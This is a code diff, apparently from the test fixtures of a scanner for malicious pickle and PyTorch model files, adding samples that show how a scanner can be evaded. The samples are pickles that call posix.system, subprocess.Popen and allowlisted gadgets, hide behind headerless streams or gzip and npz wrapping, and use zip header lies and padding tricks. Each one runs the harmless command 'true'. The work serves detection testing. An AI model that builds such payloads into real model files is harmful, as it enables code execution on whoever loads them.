@@ -568,3 +568,114 @@ def joblib_hidden_payload() -> bytes:
 
 SAMPLES = (*SAMPLES, Sample("joblib-hidden-opcodes", "hidden.pkl", joblib_hidden_payload, True))
 SAMPLES_BY_NAME = {sample.name: sample for sample in SAMPLES}
+
+
+# --------------------------------------------------------------------------- evasions (classes)
+
+
+def headerless_second_pickle() -> bytes:
+    """A protocol-0 payload after a protocol-2 pickle: no PROTO header announces it."""
+    return (
+        pickle.dumps({"ok": 1}, protocol=2)
+        + glob("posix", "system")
+        + MARK
+        + s0("true")
+        + TUPLE
+        + REDUCE
+        + STOP
+    )
+
+
+def headerless_binary_pickle() -> bytes:
+    """No PROTO, names in UNICODE escapes, a binary STACK_GLOBAL: not text, not a PROTO head."""
+    return b"V\\u0070osix\nV\\u0073ystem\n\x93Vtrue\n\x85R."
+
+
+def pydoc_pipepager() -> bytes:
+    return proto(2) + call("pydoc", "pipepager", s("x"), s("true")) + STOP
+
+
+def imaplib_stream() -> bytes:
+    return proto(2) + call("imaplib", "IMAP4_stream", s("true")) + STOP
+
+
+def frozen_importlib_call() -> bytes:
+    """An import-machinery helper that calls what it is given: f(*args)."""
+    func = glob("posix", "system")
+    return proto(2) + call("_frozen_importlib", "_call_with_frames_removed", func, s("true")) + STOP
+
+
+def copyreg_reconstructor_forward() -> bytes:
+    """An allowlisted reconstructor that runs base.__init__(obj, state)."""
+    popen = glob("subprocess", "Popen")
+    return proto(2) + call("copyreg", "_reconstructor", popen, popen, s("true")) + STOP
+
+
+def hub_class_remote() -> bytes:
+    """A library class whose __init__ downloads a model (and its code) from the hub."""
+    return (
+        proto(2) + call("sentence_transformers", "SentenceTransformer", s("attacker/model")) + STOP
+    )
+
+
+def torch_zip_local_name_lie() -> bytes:
+    """The local header renames data.pkl; PyTorch reads by the central directory."""
+    data = torch_zip(os_system())
+    at = data.find(b"archive/data.pkl")
+    return data[:at] + b"archive/data.pkX" + data[at + len(b"archive/data.pkl") :]
+
+
+def torch_zip_ratio_bomb() -> bytes:
+    """data.pkl padded with compressible no-ops past the zip-bomb ratio, payload last."""
+    padded = proto(2) + b"N0" * 1_000_000 + os_system()[2:]
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
+        zf.writestr("archive/data.pkl", padded)
+        zf.writestr("archive/version", b"3\n")
+    return out.getvalue()
+
+
+def gzip_pickle() -> bytes:
+    import gzip
+
+    return gzip.compress(os_system(), mtime=0)
+
+
+def npz_unnamed_member() -> bytes:
+    """np.load reads an .npz member as an array by its magic, whatever its name."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as zf:
+        zf.writestr("arr_0", npy("|O", os_system()))
+    return out.getvalue()
+
+
+def benign_gzip_pickle() -> bytes:
+    import gzip
+
+    return gzip.compress(pickle.dumps({"lr": 0.1, "steps": [1, 2]}, protocol=4), mtime=0)
+
+
+SAMPLES = (
+    *SAMPLES,
+    Sample("headerless-second-pickle", "two_pickles_p0.pkl", headerless_second_pickle, True),
+    Sample("headerless-binary-pickle", "p0_binary.pkl", headerless_binary_pickle, True),
+    Sample("pydoc-pipepager", "pydoc.pkl", pydoc_pipepager, True),
+    Sample("imaplib-stream", "imaplib.pkl", imaplib_stream, True),
+    Sample("frozen-importlib-call", "frozen.pkl", frozen_importlib_call, True),
+    Sample(
+        "copyreg-reconstructor-forward", "reconstructor.pkl", copyreg_reconstructor_forward, True
+    ),
+    Sample("hub-class-remote", "hub_class.pkl", hub_class_remote, True),
+    Sample("torch-zip-local-name-lie", "lying.pt", torch_zip_local_name_lie, True),
+    Sample("torch-zip-ratio-bomb", "padded.pt", torch_zip_ratio_bomb, True),
+    Sample("gzip-pickle", "model.pkl.gz", gzip_pickle, True),
+    Sample("npz-unnamed-member", "arrays.npz", npz_unnamed_member, True),
+    Sample("benign-gzip-pickle", "benign.pkl.gz", benign_gzip_pickle, False),
+    Sample(
+        "benign-protocol1",
+        "benign_p1.pkl",
+        lambda: pickle.dumps({"a": [1, 2.5, "x"], "b": (None, True)}, protocol=1),
+        False,
+    ),
+)
+SAMPLES_BY_NAME = {sample.name: sample for sample in SAMPLES}
